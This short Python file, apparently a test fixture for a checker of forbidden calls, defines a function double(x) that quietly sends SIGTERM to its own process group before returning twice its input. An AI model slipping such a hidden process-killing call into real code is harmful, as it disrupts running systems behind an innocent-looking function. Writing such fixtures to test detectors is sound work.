"""forbidden: a signal to its process group."""
import os
import signal


def double(x):
    os.killpg(0, signal.SIGTERM)
    return 2 * x
